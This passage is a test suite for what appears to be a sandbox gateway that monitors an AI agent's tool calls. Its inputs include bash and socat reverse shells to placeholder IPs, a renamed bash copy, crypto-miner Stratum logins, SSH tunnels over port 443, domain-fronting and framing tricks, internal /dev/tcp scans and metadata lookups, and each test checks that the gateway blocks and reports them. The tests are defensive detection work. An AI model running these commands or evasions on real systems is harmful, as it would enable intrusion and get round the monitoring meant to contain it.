// Scenario tests (real sandboxes, real sockets, inside the lab): every hostile step of the
// incident is blocked, the far host it aimed at saw zero connections, and the alert has
// the right category and the right tool call.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startFixture, labPolicy, categories, type Fixture } from './helpers/lab-fixture.js';
import { DEMO_FAR_HOSTS, demoEpisode } from '../src/cli/demo-scenario.js';
import type { Session } from '../src/session/session.js';
import type { SensorRecord } from '../src/sensors/bpftrace-sensor.js';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

let fx: Fixture;
// (+ a second sshd, for a server-first test that must reach one: the demo's stays at zero connections)
before(async () => { fx = await startFixture([...DEMO_FAR_HOSTS, { name: 'ssh-alt', ip: '203.0.113.30', services: [{ kind: 'ssh', port: 2222 }] }], 'labsh'); });
after(async () => { await fx?.close(); });

/** Python: one connection to the registry sending `parts` 0.4 s apart, then reading to the end: (200 answers, 403 answers). */
const HTTP_ATTEMPT_PY = `def attempt(parts):
    s = socket.create_connection(("registry.test", 80), timeout=3)
    data = b""
    try:
        for p in parts:
            s.sendall(p)
            time.sleep(0.4)
        while True:
            got = s.recv(4096)
            if not got:
                break
            data += got
    except OSError:
        pass
    return data.count(b"HTTP/1.1 200"), data.count(b"HTTP/1.1 403")
`;

async function oneCall(command: string, opts: { tool?: 'bash' | 'python'; policy?: string } = {}) {
  const s = await fx.rt.createSession({ policy: labPolicy(opts.policy), episode: 'scenario' });
  try {
    const r = await s.exec({ command, tool: opts.tool, step: 1, toolCallId: 'call-1', timeoutMs: 20_000 });
    await s.close();
    return { r, alerts: s.alertEvents, s };
  } finally { await s.close(); }
}

test('the demo episode: each hostile step blocked, zero far-host connections, right category and tool call', async () => {
  const calls = demoEpisode();
  const s: Session = await fx.rt.createSession({ policy: labPolicy(), episode: calls[0]!.episode });
  const results = [];
  for (const c of calls) results.push(await s.exec({ command: c.command, step: c.step, toolCallId: c.tool_call_id, timeoutMs: 20_000 }));
  const { alerts } = await s.close();
  const by = (id: string) => categories(alerts.filter((a) => a.tool_call === id));
  assert.deepEqual(by('demo-call-1'), [], 'benign step raises nothing');
  assert.deepEqual(by('demo-call-2'), [], 'allowed download raises nothing');
  assert.equal(results[1]!.exitCode, 0, results[1]!.stderr);
  assert.deepEqual(by('demo-call-3'), ['tunnel']);
  // the nohup miner is attributed to the step that started it (the command screen may add its own pre-run findings)
  const call4 = alerts.filter((a) => a.tool_call === 'demo-call-4');
  assert.deepEqual(categories(call4.filter((a) => a.payload.layer !== 'command')), ['mining'], 'the nohup miner is attributed to the step that started it');
  assert.ok(call4.some((a) => a.payload.layer === 'command' && a.payload.category === 'mining'), 'the miner script was flagged before it ran');
  // a /dev/tcp scan is a scan: the shell's own connects to the scanned targets are not a reverse shell too
  assert.deepEqual(by('demo-call-5'), ['internal_probe']);
  assert.deepEqual(by('demo-call-6'), ['metadata_access']);
  assert.deepEqual(by('demo-call-7'), []);
  const scan = alerts.find((a) => a.tool_call === 'demo-call-5' && a.payload.category === 'internal_probe')!;
  assert.equal(scan.payload.count, 12, 'the scan is one alert with the count');
  const miner = alerts.filter((a) => a.tool_call === 'demo-call-4' && a.payload.layer === 'network');
  assert.ok(miner.some((a) => /443/.test(a.payload.message)), 'Stratum over 443 to an allowed IP is cut');
  assert.ok(miner.every((a) => a.payload.evidence.length > 0));
  assert.ok(miner.some((a) => a.pid), 'the miner process is named');
  assert.ok(BigInt(miner[0]!.ts) > BigInt(alerts.find((a) => a.tool_call === 'demo-call-6')!.ts), 'the miner alert fired during a later step');
  const counts = await fx.far.counts();
  for (const [k, c] of Object.entries(counts)) {
    if (k === '198.51.100.10:80') assert.ok(c.accepted >= 1, 'registry reached');
    else assert.equal(c.accepted, 0, `${k} must see zero connections`);
  }
  const gw = s.events.filter((e) => e.kind === 'connect' && e.payload.source === 'gateway');
  assert.ok(gw.length >= 15);
  const late = gw.filter((e) => e.payload.attribution === 'inferred');
  assert.ok(late.length <= 2, `proxied connections are tied to their pid by the kernel record (late: ${late.length})`);
  assert.ok(late.every((e) => e.payload.attribution === 'inferred'));
  for (const a of alerts) {
    assert.ok(a.session && a.episode && a.step && a.tool_call, 'attribution labels present');
    assert.ok(a.payload.attack.length && a.payload.reason && a.payload.severity);
  }
});

test('SSH over 443 to an allowed address is cut and reported as a tunnel', async () => {
  const before = await fx.far.accepted('203.0.113.20', 443);
  const { alerts } = await oneCall('ssh -p 443 -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 x@203.0.113.20; echo rc=$?');
  const t = alerts.find((a) => a.payload.category === 'tunnel');
  assert.ok(t, JSON.stringify(alerts.map((a) => a.payload.message)));
  assert.ok(t.payload.attack.includes('T1571'), 'non-standard port');
  assert.equal(t.tool_call, 'call-1');
  assert.equal(await fx.far.accepted('203.0.113.20', 443), before);
});

test('SSH that holds back its banner past the sniff wait is still classified and cut (client late, or server first)', async () => {
  // Client late: nothing for 0.6 s (the gateway decides on address and port after 0.3 s), then its banner.
  const late = await oneCall(`import socket, time
s = socket.create_connection(("203.0.113.20", 443), timeout=3)
time.sleep(0.6)
try:
    s.sendall(b"SSH-2.0-OpenSSH_9.2p1\\r\\n")
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(late.r.stdout, /^cut|^got b''/m, late.r.stdout + late.r.stderr);
  const t = late.alerts.find((a) => a.payload.category === 'tunnel' && a.payload.layer === 'network');
  assert.ok(t, JSON.stringify(late.alerts.map((a) => [a.payload.layer, a.payload.message])));
  assert.equal(t.tool_call, 'call-1');
  // Server first: a client that waits for the server's banner (a tunnel behind a ProxyCommand).
  // The address is allowed for TLS only; the far sshd speaks first; the sandbox never reads its banner.
  const first = await oneCall(`import socket
s = socket.create_connection(("203.0.113.30", 2222), timeout=3)
try:
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python', policy: 'network:\n  allow:\n    - cidr: 203.0.113.30/32\n      ports: [2222]\n      protocols: [tls]\n' });
  assert.doesNotMatch(first.r.stdout, /SSH-/, 'the server banner never reached the sandbox');
  const f = first.alerts.find((a) => a.payload.category === 'tunnel' && a.payload.layer === 'network');
  assert.ok(f, JSON.stringify(first.alerts.map((a) => [a.payload.layer, a.payload.message])));
});

test('a pause inside the first message does not pass the sniff: SSH split as "SSH" … banner, and HTTP fronting split as "G" … Host, are still judged and cut', async () => {
  // (a review, session 23: the sniff wait ran out on the unfinished prefix and the flow went on as unclassified `other`)
  const before = await fx.far.accepted('203.0.113.20', 443);
  const ssh = await oneCall(`import socket, time
s = socket.create_connection(("203.0.113.20", 443), timeout=3)
s.sendall(b"SSH")
time.sleep(0.6)
try:
    s.sendall(b"-2.0-OpenSSH_9.2p1\\r\\n")
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(ssh.r.stdout, /^cut|^got b''/m, ssh.r.stdout + ssh.r.stderr);
  const t = ssh.alerts.find((a) => a.payload.category === 'tunnel' && a.payload.layer === 'network');
  assert.ok(t, JSON.stringify(ssh.alerts.map((a) => [a.payload.layer, a.payload.message])));
  assert.equal(await fx.far.accepted('203.0.113.20', 443), before, 'the far host never saw the tunnel');
  const seen = await fx.far.accepted('198.51.100.10', 80);
  const http = await oneCall(`import socket, time
s = socket.create_connection(("registry.test", 80), timeout=3)
s.sendall(b"G")
time.sleep(0.6)
s.sendall(b"ET /job HTTP/1.1\\r\\nHost: pool.minexmr.test\\r\\n\\r\\n")
print(s.recv(200).split(b"\\r\\n")[0].decode())`, { tool: 'python' });
  assert.match(http.r.stdout, /^HTTP\/1\.1 403/m, http.r.stdout + http.r.stderr);
  assert.equal(await fx.far.accepted('198.51.100.10', 80), seen, 'the fronted request never reached the registry');
  // A first message that never finishes is judged as what it begins after the hold: `SSH` alone is ssh.
  const stalled = await oneCall(`import socket, time
s = socket.create_connection(("203.0.113.20", 443), timeout=8)
s.sendall(b"SSH")
try:
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(stalled.r.stdout, /^cut|^got b''/m, stalled.r.stdout + stalled.r.stderr);
  assert.ok(stalled.alerts.some((a) => a.payload.category === 'tunnel' && a.payload.layer === 'network'), JSON.stringify(stalled.alerts.map((a) => a.payload.message)));
  assert.equal(await fx.far.accepted('203.0.113.20', 443), before);
});

test('Stratum with an escaped method in a line too long to parse, through a rule that allows unclassified traffic, is still cut', async () => {
  // (a review, session 23: `"\\u006dining.subscribe"` padded past 64 KiB passed as `other`, and the fake pool answered)
  const before = (await fx.far.counts())['203.0.113.20:3333']?.requests ?? 0;
  const { r, alerts } = await oneCall(`import socket, json
s = socket.create_connection(("203.0.113.20", 3333), timeout=3)
line = '{"id": 1, "method": "\\\\u006dining.subscribe", "params": ["x"], "pad": "' + "a" * 70000 + '"}\\n'
try:
    s.sendall(line.encode())
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python', policy: 'network:\n  allow:\n    - cidr: 203.0.113.20/32\n      ports: [3333]\n' });
  assert.match(r.stdout, /^cut|^got b''/m, r.stdout + r.stderr);
  assert.ok(alerts.some((a) => a.payload.category === 'mining' && a.payload.layer === 'network'), JSON.stringify(alerts.map((a) => [a.payload.layer, a.payload.message])));
  assert.equal((await fx.far.counts())['203.0.113.20:3333']?.requests ?? 0, before, 'the pool answered nothing');
});

test('mining JSON-RPC after 70 KB of padding in an allowed HTTP upload is still seen and cut', async () => {
  const before = await fx.far.accepted('203.0.113.20', 443);
  const { r, alerts } = await oneCall(`import socket, json, time
s = socket.create_connection(("203.0.113.20", 443), timeout=3)
line = (json.dumps({"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}) + "\\n").encode()
try:
    s.sendall(b"POST /upload HTTP/1.1\\r\\nHost: 203.0.113.20\\r\\nContent-Length: %d\\r\\n\\r\\n" % (70000 + len(line)) + b"x" * 70000)
    time.sleep(0.3)
    s.sendall(line)
    time.sleep(0.5)
    s.sendall(b"more")
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(r.stdout, /^cut|^got b''/m, r.stdout + r.stderr);
  // (the command screen flags the source too; this is the gateway's own verdict on the bytes)
  const m = alerts.find((a) => a.payload.category === 'mining' && a.payload.layer === 'network');
  assert.ok(m, JSON.stringify(alerts.map((a) => [a.payload.layer, a.payload.message])));
  assert.ok((await fx.far.accepted('203.0.113.20', 443)) >= before, '(the HTTP request itself was allowed)');
});

test('a TLS client is fingerprinted at the gateway: its connect event carries the JA3/JA4 of its ClientHello', async () => {
  // The sandboxed Python first sends its ClientHello to a listener of its own on loopback (inside
  // the sandbox: the host's PATH may hold another Python build, with another fingerprint) and
  // prints the bytes; then the same client connects out through the gateway.
  const { s, r } = await oneCall(`import socket, ssl, threading, binascii
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
def client(addr):
    c = socket.create_connection(addr, timeout=3)
    try:
        ctx.wrap_socket(c, server_hostname="mirror.test")
    except Exception as e:
        pass
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
t = threading.Thread(target=client, args=(srv.getsockname(),))
t.start()
conn, _ = srv.accept()
data = conn.recv(65536)
conn.close()
t.join()
print("HELLO", binascii.hexlify(data).decode())
client(("203.0.113.20", 443))`, { tool: 'python' });
  const hex = /HELLO ([0-9a-f]+)/.exec(r.stdout)?.[1];
  assert.ok(hex, r.stdout + r.stderr);
  const { parseClientHello } = await import('../src/gateway/sniff/index.js');
  const want = parseClientHello(Buffer.from(hex, 'hex')).tls;
  assert.match(want?.ja4 ?? '', /^t13d\d{4}h1_[0-9a-f]{12}_[0-9a-f]{12}$/);
  const tls = s.events.filter((e) => e.kind === 'connect' && e.payload.source === 'gateway' && e.payload.protocol === 'tls');
  assert.equal(tls.length, 1, JSON.stringify(s.events.filter((e) => e.kind === 'connect').map((e) => e.payload)));
  assert.equal(tls[0]!.payload['tls.client.ja4'], want!.ja4);
  assert.equal(tls[0]!.payload['tls.client.ja3'], want!.ja3);
  assert.equal(tls[0]!.payload.sni, 'mirror.test');

  // A policy that denies this client by its fingerprint refuses it before anything reaches the far host.
  const before = await fx.far.accepted('203.0.113.20', 443);
  const { alerts, s: s2 } = await oneCall('import socket, ssl\nctx = ssl.create_default_context()\nctx.set_alpn_protocols(["http/1.1"])\nc = socket.create_connection(("203.0.113.20", 443), timeout=3)\ntry:\n    ctx.wrap_socket(c, server_hostname="mirror.test")\nexcept Exception as e:\n    print("tls", type(e).__name__)', {
    tool: 'python', policy: `network:\n  allow:\n    - cidr: 203.0.113.20/32\n      ports: [443]\n  deny_tls: ['${want!.ja4}']\n`,
  });
  const denied = s2.events.find((e) => e.kind === 'connect' && e.payload.source === 'gateway' && e.payload.protocol === 'tls');
  assert.equal(denied?.payload.decision, 'deny', JSON.stringify(denied?.payload));
  assert.equal(denied?.payload.rule, `deny-tls:${want!.ja4}`);
  assert.ok(alerts.some((a) => a.tool_call === 'call-1' && /fingerprint/.test(String(a.payload.message) + String(a.payload.reason))), JSON.stringify(alerts.map((a) => a.payload)));
  assert.equal(await fx.far.accepted('203.0.113.20', 443), before, 'the far host saw nothing');
});

test('Stratum over 443 to an allowed IP from a Python socket client is cut as mining', async () => {
  const before = await fx.far.accepted('203.0.113.20', 443);
  const { alerts, r } = await oneCall(`import socket, json
s = socket.create_connection(("203.0.113.20", 443), timeout=3)
s.sendall((json.dumps({"id": 1, "method": "login", "params": {"login": "wallet", "pass": "x", "agent": "XMRig/6.21.0"}}) + "\\n").encode())
try:
    print("recv", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(r.stdout, /cut|recv b''/);
  assert.deepEqual(categories(alerts), ['mining']);
  assert.equal(alerts[0]!.tool_call, 'call-1');
  assert.equal(await fx.far.accepted('203.0.113.20', 443), before);
});

test('a bash /dev/tcp reverse shell and a Python socket client to an outside host are blocked', async () => {
  const { alerts, r } = await oneCall('bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"; python3 -c "import socket; socket.create_connection((\'203.0.113.10\', 8080), timeout=2)"; echo done');
  assert.match(r.stdout, /done/);
  const msgs = alerts.map((a) => a.payload.message).join('\n');
  assert.match(msgs, /203\.0\.113\.10:4444/);
  assert.match(msgs, /203\.0\.113\.10:8080/);
  assert.ok(alerts.every((a) => a.tool_call === 'call-1'));
  // the network layer blocks both connections; the process layer recognises the bash -i /dev/tcp reverse shell
  // (port 4444 is also a common pool port, so a low-confidence mining heuristic may add itself)
  assert.ok(categories(alerts).includes('policy_violation') && categories(alerts).includes('reverse_shell'), categories(alerts).join());
  assert.equal(await fx.far.accepted('203.0.113.10', 22), 0);
});

test('a renamed copy of bash is known by its bytes: its /dev/tcp connect is a reverse shell, and the copy itself is reported', async () => {
  // (a review, session 24: `cp /bin/bash ./.kw` and a /dev/tcp path built from a variable raised only a low policy alert)
  const { r, alerts, s } = await oneCall(`cp /bin/bash ./.kw && (setsid ./.kw -c 'sleep 0.3; d=/dev/tc; exec 3<>\${d}p/203.0.113.5/9001; echo x >&3' >/dev/null 2>&1 &) ; sleep 1.5; echo done`);
  assert.equal(r.stdout.trim(), 'done', r.stderr);
  const by = (rule: string) => alerts.find((a) => a.payload.rule === rule);
  const copy = by('system_binary_copy_exec');
  assert.ok(copy, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message])));
  assert.equal(copy.tool_call, 'call-1');
  assert.match(String(copy.payload.message), /Renamed copy of bash run as .*\.kw/);
  const shell = alerts.find((a) => a.payload.category === 'reverse_shell');
  assert.ok(shell, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.category, a.payload.message])));
  assert.equal(shell.tool_call, 'call-1');
  // the real bash is bash, not a copy of itself (this checked the message for `.kw`, which the call's own
  // `/bin/bash -c 'cp /bin/bash ./.kw …'` carries, so it passed while that bash was called a copy: session 35)
  const copies = alerts.filter((a) => a.payload.rule === 'system_binary_copy_exec').map((a) => String(a.payload.message));
  assert.ok(copies.every((m) => /run as \S*\.kw:/.test(m)), JSON.stringify(copies));
  assert.deepEqual(s.events.filter((e) => e.kind === 'exec' && e.payload.copy_of !== undefined && !String(e.payload.filename).endsWith('.kw')).map((e) => e.payload.filename), []);
});

test('socat running a shell on half of a dual address (STDIN!!EXEC:sh) is seen by the process layer as a reverse shell', async () => {
  // (a review, session 24: the rule matched EXEC: only at the start of an address; `A!!EXEC:sh` passed)
  const { r, alerts } = await oneCall(`import subprocess
half = "EX" + "EC:sh"  # built at run time, so only the process layer can see the address
p = subprocess.run(["so" + "cat", "tcp:203.0.113.10:4444,connect-timeout=2", "STDIN!!" + half], capture_output=True)
print("done", p.returncode)`, { tool: 'python' });
  assert.match(r.stdout, /^done /, r.stderr);
  const shell = alerts.find((a) => a.payload.rule === 'reverse_shell_socat_exec');
  assert.ok(shell, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message])));
  assert.equal(shell.tool_call, 'call-1');
  assert.equal(shell.payload.category, 'reverse_shell');
  assert.equal(await fx.far.accepted('203.0.113.10', 22), 0);
});

test('a shell scanning with /dev/tcp is one internal scan alert; its connect to an outside host is still a reverse shell', async () => {
  const scan = 'for h in 10.0.0.5 10.0.0.6 10.0.0.7; do for p in 22 80; do (echo > /dev/tcp/$h/$p) 2>/dev/null; done; done';
  const { alerts } = await oneCall(`${scan}; echo scanned`);
  assert.deepEqual(categories(alerts), ['internal_probe'], alerts.map((a) => a.payload.message).join('\n'));
  // the same scan plus one shell connection elsewhere: that one is reported as a reverse shell, alone
  const mixed = await oneCall(`${scan}; (echo > /dev/tcp/203.0.113.10/4444) 2>/dev/null; echo done`);
  const shell = mixed.alerts.filter((a) => a.payload.category === 'reverse_shell');
  assert.equal(shell.length, 1, mixed.alerts.map((a) => a.payload.message).join('\n'));
  assert.match(shell[0]!.payload.message, /203\.0\.113\.10.4444/);
  // its evidence holds the shell's one connect outside the scan, none of the scan's
  const ev = new Set(shell[0]!.payload.evidence);
  const connects = mixed.s.events.filter((e) => ev.has(e.id) && e.kind === 'connect').map((e) => `${String(e.payload['network.peer.address'])}:${String(e.payload['network.peer.port'])}`);
  assert.deepEqual(connects, ['203.0.113.10:4444']);
  // two shell connects inside the scan are too few to call a scan: still a reverse shell
  const two = await oneCall('for p in 22 80; do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null; done; echo two');
  assert.ok(categories(two.alerts).includes('reverse_shell'), categories(two.alerts).join());
});

test('DNS lookups of pool names are refused and reported as mining; metadata names too', async () => {
  const { alerts, r } = await oneCall('getent hosts xmr.pool.test || echo nx1; getent hosts pool.supportxmr.test || echo nx2; getent hosts metadata.google.internal || echo nx3');
  assert.match(r.stdout, /nx1[\s\S]*nx2[\s\S]*nx3/);
  const mining = alerts.filter((a) => a.payload.category === 'mining');
  assert.deepEqual(mining.map((a) => a.payload.rule), ['dns.mining_pool', 'dns.mining_pool']);
  assert.ok(alerts.some((a) => a.payload.category === 'metadata_access' && a.payload.rule === 'dns.metadata'));
});

test('a keep-alive connection cannot front: a later request with a pool Host is judged by that Host and cut', async () => {
  const { r, alerts } = await oneCall(`import socket, time
s = socket.create_connection(("registry.test", 80), timeout=3)
s.sendall(b"GET /simple/ HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n")
time.sleep(0.3)
try:
    s.sendall(b"GET /job HTTP/1.1\\r\\nHost: pool.minexmr.test\\r\\n\\r\\n")
    time.sleep(0.3)
    s.sendall(b"x")
    while s.recv(4096):
        pass
    print("read to end")
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(r.stdout, /^cut (ConnectionResetError|BrokenPipeError)/, r.stderr);
  const a = alerts.find((x) => x.payload.layer === 'network' && /sni-mismatch|pool\.minexmr\.test/.test(String(x.payload.message)));
  assert.ok(a, JSON.stringify(alerts.map((x) => [x.payload.layer, x.payload.rule, x.payload.message])));
});

test('SSH behind other first bytes is still SSH: after a benign request on a keep-alive connection, or after blank lines, it is cut as a tunnel', async () => {
  // (a review, session 31: only the very first byte was looked at for SSH, and later upload only for mining; a
  // relay on the far end that strips the prefix makes it an ssh -R tunnel through an allowed destination)
  const before = await fx.far.accepted('203.0.113.20', 443);
  const { r, alerts } = await oneCall(`import socket, time
def attempt(host, port, first, then):
    s = socket.create_connection((host, port), timeout=3)
    try:
        s.sendall(first)
        time.sleep(0.3)
        if then:
            s.sendall(then)
            time.sleep(0.3)
        s.sendall(b"\\0" * 64)
        while s.recv(4096):
            pass
        return "read to end"
    except Exception as e:
        return "cut " + type(e).__name__
print(attempt("registry.test", 80, b"GET /simple/ HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n", b"SSH-2.0-OpenSSH_9.2p1\\r\\n"))
print(attempt("203.0.113.20", 443, b"\\r\\n" * 5 + b"SSH-2.0-OpenSSH_9.2p1\\r\\n", None))`, { tool: 'python' });
  const out = r.stdout.trim().split('\n');
  assert.equal(out.length, 2, r.stdout + r.stderr);
  for (const o of out) assert.match(o, /^cut (ConnectionResetError|BrokenPipeError)/, r.stdout);
  const tunnels = alerts.filter((a) => a.payload.category === 'tunnel');
  assert.ok(tunnels.length >= 2 || tunnels.reduce((n, a) => n + (a.payload.count ?? 1), 0) >= 2, JSON.stringify(alerts.map((a) => [a.payload.category, a.payload.message])));
  assert.ok(tunnels.every((a) => a.tool_call === 'call-1'));
  assert.equal(await fx.far.accepted('203.0.113.20', 443), before, 'the blank lines and banner never left the gateway');
});

test('a fake TLS ClientHello does not turn inspection off: cleartext Stratum after it, on a TLS-only rule, is cut as mining', async () => {
  // (a review, session 31: after a hello the upload was piped uninspected, and a pool login went through with no alert)
  const { r, alerts } = await oneCall(`import socket, ssl, json, time
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ctx.wrap_bio(inc, out)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
s = socket.create_connection(("203.0.113.20", 443), timeout=3)
got = b""
try:
    s.sendall(hello)
    time.sleep(0.3)
    s.sendall((json.dumps({"id": 1, "method": "login", "params": {"login": "wallet", "pass": "x", "agent": "XMRig/6.21.0"}}) + "\\n").encode())
    time.sleep(0.5)
    s.sendall(b"{}\\n")
    while True:
        b = s.recv(4096)
        if not b:
            break
        got += b
    print("read to end", b'"job"' in got)
except Exception as e:
    print("cut", type(e).__name__, b'"job"' in got)`, { tool: 'python' });
  assert.match(r.stdout, /^cut (ConnectionResetError|BrokenPipeError) False/, r.stdout + r.stderr);
  const m = alerts.filter((a) => a.payload.category === 'mining');
  assert.equal(m.length, 1, JSON.stringify(alerts.map((a) => [a.payload.category, a.payload.message])));
  assert.equal(m[0]!.tool_call, 'call-1');
});

test('a flow cut mid-stream while its download is relayed resets the agent: a reader gets ConnectionResetError, never a clean end', async () => {
  // (session 24: the splice relay's dup of the sandbox socket was shut down with a FIN, so an agent
  // that only reads saw an orderly end, as if the server had finished)
  const { r, alerts } = await oneCall(`import socket
s = socket.create_connection(("registry.test", 80), timeout=3)
s.sendall(b"GET /simple/ HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n")
print("first", s.recv(4096).split(b"\\r\\n")[0].decode())
s.sendall(b"GET /job HTTP/1.1\\r\\nHost: pool.minexmr.test\\r\\n\\r\\n")
try:
    while True:
        if not s.recv(4096):
            print("clean end")
            break
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(r.stdout, /^first HTTP\/1\.1 200/m, r.stdout + r.stderr);
  assert.match(r.stdout, /^cut ConnectionResetError$/m, r.stdout + r.stderr);
  assert.ok(alerts.some((x) => x.payload.layer === 'network' && /pool\.minexmr\.test|sni-mismatch/.test(String(x.payload.message))), JSON.stringify(alerts.map((x) => x.payload.message)));
});

test('fronting cannot hide in HTTP framing: a later request split across writes, one right after a body, and conflicting Host headers are all cut', async () => {
  // (a review, session 23: each of these reached the far host while a later request's Host was looked for per write)
  const requests = async (): Promise<number> => (await fx.far.counts())['198.51.100.10:80']?.requests ?? 0;
  const before = await requests();
  const { r, alerts } = await oneCall(`import socket, time
${HTTP_ATTEMPT_PY}first = b"GET /simple/ HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n"
pool = b"T /job HTTP/1.1\\r\\nHost: pool.minexmr.test\\r\\nConnection: close\\r\\n\\r\\n"
print(attempt([first, b"GE", pool])[0], attempt([b"POST /up HTTP/1.1\\r\\nHost: registry.test\\r\\nContent-Length: 5\\r\\n\\r\\nhelloGE" + pool])[0],
      attempt([b"GET / HTTP/1.1\\r\\nHost: registry.test\\r\\nHost: pool.minexmr.test\\r\\n\\r\\n"])[0])`, { tool: 'python' });
  assert.equal(r.stdout.trim(), '1 0 0', `only the split case's allowed first request is answered: ${r.stdout}${r.stderr}`);
  assert.equal(await requests() - before, 1, 'the registry served that one request and nothing fronted');
  const net = alerts.filter((x) => x.payload.layer === 'network');
  // (the two pool Hosts are one mining alert: alike alerts of a call are grouped; the ambiguous one is a policy alert)
  assert.deepEqual([...new Set(net.map((x) => x.payload.rule))].sort(), ['gateway.mining', 'gateway.policy'], JSON.stringify(net.map((x) => [x.payload.rule, x.payload.message])));
  assert.ok(net.every((x) => /pool\.minexmr\.test|sni-mismatch/.test(String(x.payload.message))), JSON.stringify(net.map((x) => x.payload.message)));
});

test('fronting over cleartext HTTP/2 (prior knowledge) is judged by each request\'s :authority: a pool name on the allowed address is cut before the far host gets it', async () => {
  const requests = async (): Promise<number> => (await fx.far.counts())['198.51.100.10:80']?.requests ?? 0;
  const before = await requests();
  // HPACK without Huffman: :method GET, :path /, :scheme http from the static table, :authority as a literal.
  const { r, alerts } = await oneCall(`import socket, struct
def frame(t, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload
def headers(sid, authority):
    a = authority.encode()
    return frame(1, 5, sid, bytes([0x82, 0x84, 0x86, 0x01, len(a)]) + a)
def attempt(*authorities, extra=b""):
    s = socket.create_connection(("registry.test", 80), timeout=3)
    s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(4, 0, 0, b"") + b"".join(headers(1 + 2 * i, a) for i, a in enumerate(authorities)) + extra)
    try:
        while s.recv(4096):
            pass
        return "closed"
    except OSError as e:
        return type(e).__name__
print(attempt("registry.test"), attempt("registry.test", "pool.minexmr.test"), attempt("registry.test", extra=frame(5, 4, 1, bytes([0, 0, 0, 2, 0x82]))))`, { tool: 'python' });
  assert.match(r.stdout.trim(), /^\S+ ConnectionResetError ConnectionResetError$/, r.stdout + r.stderr);
  assert.equal(await requests(), before, 'no HTTP request reached the registry');
  const net = alerts.filter((x) => x.payload.layer === 'network');
  assert.ok(net.some((x) => x.payload.rule === 'gateway.mining' && /pool\.minexmr\.test/.test(String(x.payload.message))), JSON.stringify(net.map((x) => [x.payload.rule, x.payload.message])));
  // A stream the gateway cannot follow (a client PUSH_PROMISE) is refused, and the agent told why.
  const lost = net.filter((x) => !/pool\.minexmr\.test/.test(String(x.payload.message)));
  assert.equal(lost.length, 1, 'the allowed :authority alone raises nothing: ' + JSON.stringify(lost.map((x) => x.payload.message)));
  assert.match(String(lost[0]!.payload.reason), /cleartext HTTP\/2 stream cannot be followed \(a client PUSH_PROMISE\)/);
});

test('an HTTP CONNECT to another port of an allowed host is refused with a 403 naming the rule; the far host sees nothing', async () => {
  // (a review, session 23: `CONNECT registry.test:22` passed the port-80 rule, the target's port unread)
  const before = await fx.far.accepted('198.51.100.10', 80);
  const { r, alerts } = await oneCall(`import socket
s = socket.create_connection(("registry.test", 80), timeout=3)
s.sendall(b"CONNECT registry.test:22 HTTP/1.1\\r\\nHost: registry.test:22\\r\\n\\r\\n")
print(s.recv(300).decode().split("\\r\\n")[0])`, { tool: 'python' });
  assert.match(r.stdout, /^HTTP\/1\.1 403/m, r.stdout + r.stderr);
  assert.equal(await fx.far.accepted('198.51.100.10', 80), before, 'the proxy was never asked');
  assert.ok(alerts.some((a) => a.payload.layer === 'network' && /connect-port:22-not-allowed/.test(String(a.payload.message) + String(a.payload.reason))), JSON.stringify(alerts.map((a) => a.payload.message)));
});

test('Stratum inside masked WebSocket frames to an allowed HTTP host is unmasked, seen and cut', async () => {
  const { r, alerts } = await oneCall(`import socket, os, time, json
s = socket.create_connection(("registry.test", 80), timeout=3)
s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: registry.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
time.sleep(0.3)
m = "min" + "ing.subscribe"
payload = (json.dumps({"id": 1, "method": m, "params": ["x"]}) + "\\n").encode()
key = os.urandom(4)
frame = bytes([0x81, 0x80 | len(payload)]) + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))
try:
    s.sendall(frame)
    time.sleep(0.3)
    s.sendall(frame)
    s.recv(100)
    print("not cut")
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(r.stdout, /^cut /, r.stdout + r.stderr);
  const m = alerts.find((a) => a.payload.category === 'mining' && a.payload.layer === 'network');
  assert.ok(m, JSON.stringify(alerts.map((a) => [a.payload.layer, a.payload.message])));
});

test('fronting cannot hide behind an ignored WebSocket upgrade or a request head too long to read: the pool Host is judged and refused', async () => {
  // (a review, session 34: both reached the far host — frames were assumed after any upgrade request, and a head over 8 KiB was judged by its first 8 KiB)
